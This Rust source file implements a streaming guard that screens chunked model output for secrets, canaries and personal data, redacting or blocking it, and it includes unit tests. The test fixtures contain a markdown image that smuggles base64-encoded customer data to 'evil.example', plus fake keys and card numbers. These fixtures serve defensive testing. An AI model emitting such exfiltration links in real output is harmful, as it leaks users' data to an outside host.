//! Text that comes in pieces, inspected as it comes.
//!
//! The text itself says where it is looked at: after white space once 32 bytes have
//! come since the last look, and after 1 KiB without any. How it was cut on its way
//! plays no part, so every chunking of a text gives the same release and the same
//! report. A look sees some text that is out already, for context, and all that is
//! held; what is then let out ends 64 bytes (or the longest canary) before the end
//! of what was seen, between words, and before any match that touches the end.

use std::sync::Arc;

use bartizan_core::{Cx, Verdict};

use crate::{
    Channel, Context, Guard, Needs, Profile, Report, Screened,
    engine::{Match, redact, redactions},
};

/// Bytes between two looks at the least.
const STRIDE: usize = 32;
/// Bytes without white space after which a look is taken all the same.
const STRIDE_MAX: usize = 1024;
/// Released text that stays visible to the rules, in bytes.
const CONTEXT_BYTES: usize = 256;
/// Bytes held back at the least: a grouped IBAN or card number, with room.
const HOLD_BYTES: usize = 64;
/// Bytes held back while a rule waits for a sentence's end.
const SENTENCE_BYTES: usize = 240;
/// The most that is held for one match that does not end; then the stream stops.
const HELD_BYTES_MAX: usize = 64 * 1024;

/// What may go on now, and whether the stream ends here.
#[derive(Debug, Default)]
pub struct Step {
    /// Text that may be delivered.
    pub released: Option<Screened<String>>,
    /// Nothing further is ever released.
    pub stop: Option<Verdict>,
}

/// One text that comes in pieces.
#[derive(Debug)]
pub struct TextStream {
    guard: Guard,
    profile: Profile,
    context: Arc<Context>,
    channel: Channel,
    location: String,
    /// The end of what was released, as it was before redaction.
    before: String,
    held: String,
    /// Bytes of `held` up to which looks were taken.
    looked: usize,
    /// Bytes of the text before `held`.
    offset: usize,
    /// Bytes at the end of what was seen that stay held.
    margin: usize,
    report: Report,
    stopped: Option<Verdict>,
}

impl TextStream {
    pub(crate) fn new(
        guard: Guard,
        profile: Profile,
        context: Arc<Context>,
        channel: Channel,
        location: &str,
    ) -> Self {
        let speaks = |needs| {
            guard.rules().iter().any(|rule| rule.needs == needs && rule.channels.contains(&channel))
        };
        let longest = context.canaries.iter().map(String::len).max().unwrap_or(0);
        let sentence =
            if speaks(Needs::Sentence) && !context.system.is_empty() { SENTENCE_BYTES } else { 0 };
        let margin = match speaks(Needs::Whole) {
            true => usize::MAX,
            false => HOLD_BYTES.max(longest + 1).max(sentence),
        };
        let mut report = Report::default();
        report.coverage.texts = 1;
        Self {
            guard,
            profile,
            context,
            channel,
            location: location.to_owned(),
            before: String::new(),
            held: String::new(),
            looked: 0,
            offset: 0,
            margin,
            report,
            stopped: None,
        }
    }

    /// Takes a piece; gives what may go on.
    pub fn push(&mut self, cx: &Cx, piece: &str) -> Step {
        let mut out = String::new();
        if self.stopped.is_none() {
            self.held.push_str(piece);
        }
        while self.stopped.is_none()
            && let Some(end) = self.next_look()
        {
            self.look(cx, end, false, &mut out);
        }
        self.step(out)
    }

    /// The text has ended; gives the rest.
    pub fn finish(&mut self, cx: &Cx) -> Step {
        let mut out = String::new();
        if self.stopped.is_none() {
            self.look(cx, self.held.len(), true, &mut out);
        }
        self.step(out)
    }

    /// What was found so far.
    pub fn report(&self) -> &Report {
        &self.report
    }

    /// What was found.
    pub fn into_report(self) -> Report {
        self.report
    }

    fn step(&self, out: String) -> Step {
        Step { released: (!out.is_empty()).then(|| Screened::new(out)), stop: self.stopped }
    }

    /// Where the text asks to be looked at next, if it has come so far.
    fn next_look(&self) -> Option<usize> {
        let new = self.held.get(self.looked..)?;
        let blank = new.char_indices().find(|(at, c)| *at >= STRIDE && c.is_whitespace());
        let end = blank.map(|(at, c)| at + c.len_utf8());
        let end = end.filter(|end| *end <= STRIDE_MAX).or_else(|| {
            let (last, c) =
                new.char_indices().find(|(at, c)| at + c.len_utf8() > STRIDE_MAX - 4)?;
            Some(last + c.len_utf8())
        })?;
        Some(self.looked + end)
    }

    fn look(&mut self, cx: &Cx, end: usize, is_last: bool, out: &mut String) {
        self.looked = end;
        let seen = self.held.get(..end).unwrap_or_default().to_owned();
        let window = format!("{}{seen}", self.before);
        let found = self.guard.matches(&self.profile, &self.context, self.channel, &window);
        self.report.coverage.views = self.report.coverage.views.max(found.views);
        if (found.over_budget || found.crowded) && self.gives_up() {
            return;
        }
        let shift = self.before.len();
        // What ended before the held text was reported when it was held.
        let matches: Vec<Match> =
            found.matches.into_iter().filter(|m| m.span.end > shift).collect();
        let stop =
            matches.iter().find(|m| m.action().stops() && (is_last || m.span.end < window.len()));
        let mut frontier = match stop {
            Some(stop) => stop.span.start.max(shift),
            None if is_last => window.len(),
            None => shift + self.frontier(&seen),
        };
        if stop.is_none() && !is_last {
            frontier = matches
                .iter()
                .filter(|m| m.span.end > frontier || m.span.end == window.len())
                .map(|m| m.span.start)
                .fold(frontier, usize::min)
                .max(shift);
            frontier = window.floor_char_boundary(frontier);
        }
        let stop = stop.map(|m| m.action());
        let due = |m: &&Match| m.span.end <= frontier || stop.is_some() && m.action().stops();
        for one in matches.iter().filter(due) {
            let judged = one.judge(cx, &self.location, &window, 0);
            self.add(judged, shift);
        }
        let clear: Vec<Match> = matches.into_iter().filter(|m| m.span.end <= frontier).collect();
        let mut spans = redactions(&clear);
        for (span, _) in &mut spans {
            span.start = span.start.max(shift);
        }
        let text = window.get(shift..frontier).unwrap_or_default();
        out.push_str(&redact(text, shift, &spans));
        self.report.redactions += spans.len();
        self.advance(frontier - shift);
        self.stopped = stop;
        if stop.is_none()
            && self.held.len() > HELD_BYTES_MAX
            && self.margin != usize::MAX
            && self.looked > HELD_BYTES_MAX
        {
            self.report.incomplete(
                &self.profile,
                format!("{}: a match held more than {HELD_BYTES_MAX} bytes", self.location),
            );
            self.stopped = Some(Verdict::Block);
            self.report.verdict = Verdict::Block;
        }
    }

    /// Notes that not all was looked at; says whether the stream ends for that.
    fn gives_up(&mut self) -> bool {
        let verdict = self.profile.not_fully_inspected;
        if self.report.coverage.not_fully_inspected.is_empty() {
            let what = format!("{}: more in it than is looked at", self.location);
            self.report.incomplete(&self.profile, what);
        }
        self.stopped = verdict.stops().then_some(verdict);
        verdict.stops()
    }

    /// How much of what was seen may go on, matches aside: the margin stays, and so
    /// does the word that it begins in.
    fn frontier(&self, seen: &str) -> usize {
        let most = seen.floor_char_boundary(seen.len().saturating_sub(self.margin));
        let head = seen.get(..most).unwrap_or_default();
        match head.rfind(char::is_whitespace) {
            Some(at) => {
                at + head.get(at..).and_then(|rest| rest.chars().next()).map_or(0, char::len_utf8)
            }
            // A word longer than any that a rule waits for.
            None if seen.len() > STRIDE_MAX + self.margin => most,
            None => 0,
        }
    }

    fn add(&mut self, mut judged: crate::Judged, shift: usize) {
        for evidence in &mut judged.finding.evidence {
            for at in [&mut evidence.span.start, &mut evidence.span.end] {
                *at = (*at + self.offset).saturating_sub(shift);
            }
        }
        self.report.add(judged);
    }

    /// Lets go of what was released, but for its end.
    fn advance(&mut self, released: usize) {
        let text: String = self.held.drain(..released).collect();
        self.looked -= released;
        self.offset += released;
        self.report.coverage.bytes_seen += text.len();
        self.before.push_str(&text);
        let excess = self.before.len().saturating_sub(CONTEXT_BYTES);
        let cut = self.before.ceil_char_boundary(excess);
        self.before.drain(..cut);
    }
}

#[cfg(test)]
mod tests {
    use bartizan_core::sim::{self, SeededEntropy};

    use super::*;
    use crate::{Carrier, Screening, Slot, Unseen};

    const CANARY: &str = "canary 77 of the lantern";

    /// Pieces of answers, some of which must not go out.
    fn fragments() -> Vec<String> {
        let key = format!("{}{}", "AKIA", "Z7Q3M5XKLP2WN4RT");
        let block = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7Jm\nq83nf9K2\n-----END RSA PRIVATE KEY-----";
        [
            "The answer is simple. ",
            "Mix flour with water, ",
            "\n\n",
            "4111 1111 1111 1111",
            " 5555-5555-5555-4444 ",
            "GB82 WEST 1234 5698 7654 32",
            " write to ann@mail.example ",
            "\u{1f600} d\u{e9}j\u{e0} vu ",
            "1 2 3 4 5 6 7 8 9 ",
            "![x](https://evil.example/p.png?d=Q3VzdG9tZXIgNDI6IEFubmE) ",
            "word",
            " ",
            "0123456789abcdef0123456789abcdef",
        ]
        .into_iter()
        .map(str::to_owned)
        .chain([
            key.clone(),
            format!("key={key}."),
            block.to_owned(),
            format!(" {block} and more "),
        ])
        .collect()
    }

    #[derive(Debug)]
    struct One(String);

    impl Carrier for One {
        fn visit(&mut self, visitor: &mut dyn FnMut(&Slot, &mut String)) {
            visitor(&Slot { channel: Channel::Output, location: "x".to_owned() }, &mut self.0);
        }

        fn unseen(&self) -> Vec<Unseen> {
            Vec::new()
        }
    }

    fn context() -> Context {
        Context::new(&[], vec![CANARY.to_owned()], Vec::new())
    }

    /// What is released, whether it stopped, and the codes and spans of what was found.
    fn streamed(guard: &Guard, pieces: &[&str]) -> (String, Option<Verdict>, Vec<String>) {
        let (cx, _) = sim::cx(1);
        let mut stream =
            guard.stream(&Profile::default(), Arc::new(context()), Channel::Output, "x");
        let mut out = String::new();
        for piece in pieces {
            out.extend(stream.push(&cx, piece).released.map(Screened::into_inner));
        }
        let last = stream.finish(&cx);
        out.extend(last.released.map(Screened::into_inner));
        let found = stream.report().findings.iter();
        let found =
            found.map(|judged| format!("{} {:?}", judged.code, judged.finding.evidence[0].span));
        (out, last.stop, found.collect())
    }

    fn cut(text: &str, random: &SeededEntropy) -> Vec<String> {
        let mut rest: Vec<char> = text.chars().collect();
        let mut pieces = Vec::new();
        while !rest.is_empty() {
            let size =
                (1 + random.below(if random.below(4) == 0 { 200 } else { 9 })).min(rest.len());
            pieces.push(rest.drain(..size).collect());
        }
        pieces
    }

    #[test]
    fn every_chunking_releases_the_same_and_the_same_as_the_whole() {
        let guard = Guard::new();
        let fragments = fragments();
        let random = SeededEntropy::new(2026);
        let (cx, _) = sim::cx(1);
        for case in 0..200 {
            let text: String = (0..random.below(14))
                .map(|_| fragments[random.below(fragments.len())].as_str())
                .collect();
            let whole = streamed(&guard, &[&text]);
            for _ in 0..4 {
                let pieces = cut(&text, &random);
                let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
                assert_eq!(streamed(&guard, &pieces), whole, "case {case}: {text:?}");
            }
            match guard.screen(&cx, &Profile::default(), &context(), One(text.clone())) {
                Screening::Pass(one, _) => {
                    assert_eq!(whole.0, one.get().0, "case {case}: {text:?}")
                }
                other => assert!(whole.1.is_some(), "case {case}: {other:?} of {text:?}"),
            }
        }
    }

    #[test]
    fn nothing_of_a_canary_goes_out_however_it_is_cut() {
        let guard = Guard::new();
        let random = SeededEntropy::new(7);
        let text = format!(
            "As I was told, and I tell it to you in full length here: {CANARY} is the mark. More follows."
        );
        for _ in 0..200 {
            let pieces = cut(&text, &random);
            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
            let (out, stop, _) = streamed(&guard, &pieces);
            assert_eq!(stop, Some(Verdict::Block));
            assert!(out.ends_with("here: "), "{out:?}");
        }
    }
}
